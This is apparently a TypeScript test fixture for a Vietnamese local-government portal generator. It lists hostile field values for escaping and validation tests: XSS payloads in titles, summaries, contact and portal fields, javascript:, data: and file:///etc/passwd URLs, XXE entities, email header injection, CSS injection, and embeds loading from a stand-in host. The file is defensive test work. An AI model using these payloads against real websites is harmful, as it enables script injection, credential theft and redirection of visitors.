import type { EntryKind } from '../../src/schemas/kinds.ts';

/** Hostile words for the fields of one entry, or of portal.yaml; `__ran()` is what runs if one succeeds. */
export interface HostileFields {
  kind: EntryKind | 'portal';
  fields: Record<string, unknown>;
}

/** What the schema takes, since it is text: the pages must show it as text. */
export const accepted: HostileFields[] = [
  ...[
    '<script>__ran()</script> trong tiêu đề',
    '</title><script>__ran()</script>',
    '</script><script>__ran()</script>',
    '<!--<script>__ran()//--> mở chú thích',
    '"><img src=x onerror=__ran()>',
    "' onmouseover='__ran()' x='",
    '" autofocus onfocus="__ran()',
    '<svg/onload=__ran()> hình vẽ',
    ']]></title><script>__ran()</script>',
    '&lt;img src=x onerror=__ran()&gt; đã mã hóa',
    '&#60;script&#62;__ran()&#60;/script&#62;',
    '{{constructor.constructor("__ran()")()}}',
    '${__ran()} `${__ran()}` <%= __ran() %>',
    '\\u003cscript\\u003e__ran()\\u003c/script\\u003e',
    'javascript:__ran() trong tiêu đề',
    '<mark>đánh dấu</mark> <b onclick=__ran()>đậm</b>',
    '\u2028<script>__ran()</script>\u2029 xuống dòng',
    '\u202e<script>__ran()</script>\u202c đảo chiều',
    'Ký tự \u0000<script\u0000>__ran()</script\u0000> rỗng',
    '<meta http-equiv=refresh content="0;url=//ke-xau.invalid">',
    '%3Cscript%3E__ran()%3C/script%3E',
    '＜script＞__ran()＜/script＞ chữ toàn rộng',
    '-->"></textarea></style><iframe src=//ke-xau.invalid>',
    '<base href=//ke-xau.invalid> tiêu đề',
  ].map((title): HostileFields => ({ kind: 'article', fields: { title } })),
  ...[
    '<img src=x onerror=__ran()> trong tóm tắt của bài',
    '</p></div></main><script>__ran()</script> tóm tắt',
    '"/><script>__ran()</script><meta x=" trong mô tả',
    'Tóm tắt ]]><script>__ran()</script><![CDATA[ kênh tin',
    'Tóm tắt &lt;script&gt;__ran()&lt;/script&gt; giải mã hai lần',
    'Tóm tắt &amp;lt;script&amp;gt;__ran()&amp;lt;/script&amp;gt; ba lần',
    'Tóm tắt <!ENTITY x SYSTEM "file:///etc/passwd"> &x; thực thể',
    'Tóm tắt <?xml-stylesheet href="https://ke-xau.invalid/x.xsl"?>',
    'Tóm tắt [bấm](javascript:__ran()) <a href="javascript:__ran()">bấm</a>',
  ].map((summary): HostileFields => ({ kind: 'article', fields: { summary } })),
  { kind: 'article', fields: { author: '"><script>__ran()</script> tác giả' } },
  {
    kind: 'article',
    fields: {
      cover: {
        src: 'anh.jpg',
        alt: '"><img src=x onerror=__ran()> ảnh',
        caption: '</figcaption><svg onload=__ran()> chú thích',
      },
    },
  },
  {
    kind: 'article',
    fields: {
      origin: 'dang-lai',
      source: { name: '</a><script>__ran()</script> nguồn', url: 'https://bao.vidu.vn/?a="><script>__ran()' },
    },
  },
  {
    kind: 'article',
    fields: {
      attachments: [
        { src: '"><img src=x onerror=__ran()>.pdf', name: '<b onclick=__ran()>tên tệp</b>' },
        { src: "' onmouseover='__ran()'.pdf" },
        { src: '&quot;onclick=&quot;__ran().pdf' },
        { src: '100%<script>__ran().pdf' },
        { src: '-->${__ran()}{{x}}.pdf' },
      ],
    },
  },
  {
    kind: 'intro',
    fields: {
      title: '</h1><script>__ran()</script> lịch sử',
      summary: '"><base href=//ke-xau.invalid> tóm tắt phần giới thiệu',
      map: { src: 'anh.jpg', alt: '" onload="__ran()', caption: '<style>*{display:none}</style>' },
    },
  },
  {
    kind: 'leader',
    fields: {
      name: '<script>__ran()</script> Nguyễn Văn A',
      position: '"onclick="__ran()" Chủ tịch',
      duties: '</dd></dl><iframe srcdoc="<script>parent.__ran()</script>"></iframe>',
      phone: 'javascript:__ran()//0200"onclick="__ran()',
      photo: { src: 'anh.jpg', alt: "' onerror='__ran()' x='" },
    },
  },
  {
    kind: 'contact',
    fields: {
      name: '<details open ontoggle=__ran()>Một cửa',
      address: '<a href="javascript:__ran()">Thôn Mẫu</a>',
      phone: 'data:text/html,<script>__ran()</script>',
      fax: '"><svg onload=__ran()>',
      hours: ['</ul><script>__ran()</script>', '"><img src=x onerror=__ran()> chiều'],
      map: '<iframe src="https://ke-xau.invalid/map"></iframe>',
    },
  },
  {
    kind: 'procedure',
    fields: {
      code: '1.00</script><script>__ran()</script>',
      name: '</script><script>__ran()</script> thủ tục',
      field: '"><script>__ran()</script> lĩnh vực',
      decision: '<math><mi href=javascript:__ran()>45/QĐ',
      days: '5<img src=x onerror=__ran()>',
      fee: '<embed src=//ke-xau.invalid>0 đồng',
      forWhom: ['</script><!--<script>__ran()</script>'],
      papers: ['<form action=//ke-xau.invalid><input>', '<object data=//ke-xau.invalid>'],
      places: '<link rel=stylesheet href=//ke-xau.invalid>',
      result: '<template><script>__ran()</script></template>',
      legalBasis: '<noscript><p title="</noscript><img src=x onerror=__ran()>">',
      url: 'https://dichvucong.gov.vn/?a=1&b=<script>__ran()</script>',
    },
  },
  {
    kind: 'document',
    fields: {
      number: '<s onclick=__ran()>25/KH-UBND</s>',
      type: '"><marquee onstart=__ran()>Kế hoạch',
      issuer: '<frameset onload=__ran()>UBND xã',
      subject: '<plaintext>Trích yếu <textarea autofocus onfocus=__ran()>',
      signer: '<xmp><script>__ran()</script></xmp>',
      replaces: '<video onerror=__ran()><source>',
      file: '<svg onload=__ran()>.pdf',
    },
  },
  {
    kind: 'feedback',
    fields: {
      topic: '<audio src onerror=__ran()> đường hỏng',
      question: 'Bao giờ sửa?\n\n</p><script>__ran()</script>\n<img src=x onerror=__ran()>',
      answer: '<a href="javascript:__ran()" onclick="__ran()">Đã sửa</a>\n</main><style>*{opacity:0}</style>',
    },
  },
  {
    kind: 'activity',
    fields: {
      title: '<body onload=__ran()> tập huấn',
      evidence: ['<isindex onfocus=__ran()>', '"><script src=//ke-xau.invalid/a.js></script>'],
    },
  },
  {
    kind: 'publication',
    fields: {
      title: '</a><img src=x onerror=__ran()> bài trên báo',
      outlet: '<base target=_top href=//ke-xau.invalid>Báo',
      url: 'https://bao.vidu.vn/"onmouseover="__ran()',
    },
  },
  {
    kind: 'portal',
    fields: {
      name: 'Xã </title></script><script>__ran()</script>',
      province: 'Tỉnh "><img src=x onerror=__ran()>',
      owner: 'UBND </script><script>__ran()</script>',
      responsible: { name: '<script>__ran()</script> A', position: "' onclick='__ran()' x='" },
      address: '</dd><iframe src=//ke-xau.invalid>',
      phone: '0200"><script>__ran()</script>',
      sections: [
        { id: 'cchc', name: 'CCHC ]]></title><script>__ran()</script>' },
        { id: 'thong-bao', name: '"><svg onload=__ran()> Thông báo' },
      ],
      units: [{ id: 'van-phong', name: '<img src=x onerror=__ran()> Văn phòng' }],
      hotline: {
        phone: 'tel:"onclick="__ran()" 0200',
        address: '<meta http-equiv=refresh content=0;url=//ke-xau.invalid>',
      },
      hours: ['<script>__ran()</script> sáng', '<style>*{display:none}</style> chiều'],
      links: [
        {
          name: '<b onclick=__ran()>Cổng tỉnh</b>',
          url: 'https://vidu.gov.vn/?x=\'"><script>__ran()</script>',
        },
        {
          name: '</a></li></ul></footer><script>__ran()</script>',
          url: 'https://vidu.gov.vn/#"onclick=__ran()',
        },
      ],
      social: {
        zalo: 'https://zalo.me/"><script>__ran()</script>',
        facebook: 'https://facebook.com/?a=</script><script>__ran()</script>',
      },
      theme: { accent: '#0b5394', mark: { src: 'anh.jpg', alt: '"><script>__ran()</script>' } },
      licence: '<a href=javascript:__ran()>Giấy phép</a> 01/GP',
    },
  },
];

/** What the schema refuses: no page can ever be made of it. */
export const refused: HostileFields[] = [
  ...[
    'javascript:__ran()',
    'JavaScript:__ran()//https://',
    ' javascript:__ran()',
    'java\nscript:__ran()',
    'data:text/html,<script>__ran()</script>',
    'vbscript:msgbox',
    'blob:https://ke-xau.invalid/1',
    'file:///etc/passwd',
    '//ke-xau.invalid/',
    '/\\ke-xau.invalid',
    'https:',
    'https://"><script>__ran()</script>',
    'https://ke xau.invalid/',
    'ftp://ke-xau.invalid/',
  ].flatMap((url): HostileFields[] => [
    { kind: 'procedure', fields: { url } },
    { kind: 'portal', fields: { links: [{ name: 'Cổng tỉnh', url }] } },
  ]),
  ...[
    'x@vidu.vn"><script>__ran()</script>',
    'javascript:__ran()@vidu.vn',
    'a@vidu.vn?body=<script>__ran()</script>',
    '"<script>__ran()</script>"@vidu.vn',
    'a@vidu.vn\nBcc: b@ke-xau.invalid',
  ].flatMap((email): HostileFields[] => [
    { kind: 'leader', fields: { email } },
    { kind: 'portal', fields: { email } },
  ]),
  ...[
    'red',
    '#0b5394;background:url(//ke-xau.invalid)',
    '#0b5394"><script>__ran()</script>',
    'expression(__ran())',
    '#0b5394\n',
    'var(--x)',
  ].map((accent): HostileFields => ({ kind: 'portal', fields: { theme: { accent } } })),
  ...['"><script>__ran()</script>', '../../..', 'a b', 'cchc" onclick="__ran()'].flatMap(
    (id): HostileFields[] => [
      { kind: 'article', fields: { section: id } },
      { kind: 'article', fields: { unit: id } },
      {
        kind: 'portal',
        fields: {
          sections: [
            { id: 'cchc', name: 'CCHC' },
            { id, name: 'Lạ' },
          ],
        },
      },
    ],
  ),
  ...[
    'javascript:__ran()',
    'http://khong-an-toan.vidu.vn/',
    'https://vidu.vn/"><script>__ran()</script>/',
    'https://vidu.vn/../<svg>/',
    'https://ai:do@vidu.vn/',
    'https://vidu.vn/?x=<script>',
  ].map((url): HostileFields => ({ kind: 'portal', fields: { url } })),
  { kind: 'article', fields: { date: '2026-03-14"><script>__ran()</script>' } },
  { kind: 'article', fields: { updated: 'javascript:__ran()' } },
  { kind: 'article', fields: { genre: '<script>__ran()</script>' } },
  { kind: 'article', fields: { topics: ['"><img src=x onerror=__ran()>'] } },
  { kind: 'article', fields: { cover: { src: 'anh.jpg', alt: 'Ảnh', onerror: '__ran()' } } },
  { kind: 'article', fields: { html: '<script>__ran()</script>' } },
  { kind: 'article', fields: { script: '__ran()' } },
  { kind: 'article', fields: { title: { toString: '<script>__ran()</script>' } } },
  { kind: 'article', fields: { summary: ['<script>__ran()</script>'] } },
  { kind: 'article', fields: { origin: 'dang-lai', source: { name: 'Báo', url: 'javascript:__ran()' } } },
  { kind: 'leader', fields: { order: '1;__ran()' } },
  { kind: 'activity', fields: { people: '<script>__ran()</script>' } },
  { kind: 'publication', fields: { url: 'javascript:__ran()' } },
  { kind: 'publication', fields: { channel: '<svg onload=__ran()>' } },
  { kind: 'portal', fields: { social: { zalo: 'zalo://chat' } } },
  { kind: 'portal', fields: { social: { facebook: 'javascript:__ran()' } } },
  { kind: 'portal', fields: { kind: '<script>__ran()</script>' } },
  { kind: 'portal', fields: { demo: '<script>__ran()</script>' } },
];

/** What somebody is led to type, or to open, as the question of the search page. */
export const questions = [
  '<script>__ran()</script>',
  '<img src=x onerror=__ran()>',
  '"><svg onload=__ran()>',
  "' onfocus='__ran()' autofocus='",
  'javascript:__ran()',
  '</p><iframe srcdoc="<script>parent.__ran()</script>">',
  'tiêu đề',
  'script',
];
